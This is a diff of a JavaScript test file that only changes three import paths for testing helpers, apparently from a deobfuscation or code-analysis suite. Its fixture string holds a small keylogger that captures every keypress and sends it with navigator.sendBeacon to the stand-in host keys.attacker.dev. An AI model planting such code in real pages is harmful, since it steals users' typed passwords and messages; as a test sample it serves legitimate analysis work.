@@ -1,8 +1,8 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { factsOf } from '../../../testing/facts-of.ts';
-import { packed } from '../../../testing/packer.ts';
-import { withStringArray } from '../../../testing/string-array.ts';
+import { factsOf } from '../../../../testing/facts-of.ts';
+import { packed } from '../../../../testing/packer.ts';
+import { withStringArray } from '../../../../testing/string-array.ts';
 
 const code =
   "document.addEventListener('keydown', function (pressed) { navigator.sendBeacon('https://keys.attacker.dev/k', pressed.key); localStorage.setItem('typed', String(pressed.key)); console.error('nothing to see', location.hostname); });";
